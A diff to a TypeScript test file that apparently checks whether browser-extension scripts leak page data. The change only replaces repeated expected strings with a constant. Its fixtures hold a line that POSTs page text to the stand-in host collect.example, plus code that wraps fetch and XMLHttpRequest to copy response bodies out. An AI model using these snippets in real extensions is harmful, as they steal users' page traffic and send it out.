@@ -13,6 +13,7 @@ const sent = async (parts: Parts): Promise<string[]> =>
 
 const SEND = 'fetch("https://collect.example/r", { method: "POST", body: JSON.stringify(text) })';
 const BACKGROUND = `chrome.runtime.onMessage.addListener(({ text }) => { ${SEND}; });`;
+const PASSED = 'data passing through a replaced page function';
 const PAGE = 'content of the web page';
 
 describe('what scripts of one page tell each other', () => {
@@ -43,17 +44,13 @@ describe('functions that a page talks by', () => {
   it('tell whoever replaces them what the page asks and is answered', async () => {
     const main =
       'const real = window.fetch; window.fetch = async function (...a) { const r = await real.apply(this, a); window.postMessage({ text: await r.clone().text() }, "*"); return r; };';
-    expect(await sent({ main, content: relay, background: BACKGROUND })).toContain(
-      'what the web page passes through fetch',
-    );
+    expect(await sent({ main, content: relay, background: BACKGROUND })).toContain(PASSED);
     const xhr =
       'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { this.addEventListener("load", () => window.postMessage({ text: this.responseText }, "*")); return send.call(this, b); };';
-    expect(await sent({ main: xhr, content: relay, background: BACKGROUND })).toContain(
-      'what the web page passes through XMLHttpRequest.prototype.send',
-    );
+    expect(await sent({ main: xhr, content: relay, background: BACKGROUND })).toContain(PASSED);
     expect(
       await sent({ main: `XMLHttpRequest.prototype.send = function () { const text = arguments[0]; ${SEND}; };` }),
-    ).toContain('what the web page passes through XMLHttpRequest.prototype.send');
+    ).toContain(PASSED);
   });
 
   it('hand on to the real one what is the page’s own request', async () => {
